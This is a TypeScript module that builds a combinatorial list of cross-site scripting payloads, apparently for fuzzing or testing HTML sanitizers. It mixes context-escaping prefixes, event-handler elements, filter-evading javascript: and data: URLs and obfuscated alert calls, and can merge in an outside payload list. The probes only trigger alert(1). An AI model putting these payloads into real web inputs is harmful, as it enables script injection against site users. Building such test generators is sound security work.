// Text that would run, were it put into a page as it is: made here of the ways out of a context, the elements that take
// handlers and the ways to write a script address. A list from elsewhere may come on top, one a line.
import { readFileSync } from 'node:fs';

const ways = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '--></p>',
  ']]>',
  '</style></script>',
  '"></a>',
  '&lt;/p&gt;',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video',
  'a href=#',
  'math',
  'iframe',
  'x',
];
const events = [
  'load',
  'error',
  'click',
  'focus',
  'toggle',
  'mouseover',
  'animationstart',
  'pointerenter',
];
const calls = ['alert(1)', 'confirm`1`', '&#97;lert(1)', "top['al'+'ert'](1)"];
const addresses = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'java\tscript:alert(1)',
    ' javascript:alert(1)',
  ],
  ...[
    'javascript&colon;alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'vbscript:msgbox(1)',
  ],
];

function made(): string[] {
  const handlers = ways.flatMap((way) =>
    elements.flatMap((element) =>
      events.flatMap((event) => calls.map((call) => `${way}<${element} on${event}=${call}>`)),
    ),
  );
  const scripts = ways.flatMap((way) => [
    `${way}<script>alert(1)</script>`,
    `${way}<svg><script>alert&#40;1)</script>`,
    `${way}<iframe srcdoc="<script>parent.alert(1)</script>">`,
  ]);
  const links = addresses.flatMap((address) => [
    address,
    `<a href="${address}">x</a>`,
    `[x](${address})`,
    `<${address}>`,
    `![x](${address})`,
    `[x]: ${address}\n\n[x]`,
    `" href="${address}`,
    `<form action="${address}"><button>x`,
    `<iframe src="${address}">`,
  ]);
  const attributes = events.flatMap((event) => [
    `" on${event}="alert(1)`,
    `' on${event}='alert(1)`,
    `https://a.example/" on${event}="alert(1)`,
    `https://a.example/' on${event}='alert(1)`,
    `[x](https://a.example/"on${event}="alert(1))`,
  ]);
  return [...scripts, ...links, ...attributes, ...handlers];
}

/** At most so many, evenly out of all. */
export function payloads(corpus: string | undefined, most: number): string[] {
  const lines = corpus === undefined ? [] : readFileSync(corpus, 'utf8').split('\n');
  const all = [...new Set([...lines, ...made()])].filter((text) => text.trim() !== '');
  const step = Math.max(1, Math.ceil(all.length / most));
  return all.filter((_, index) => index % step === 0);
}
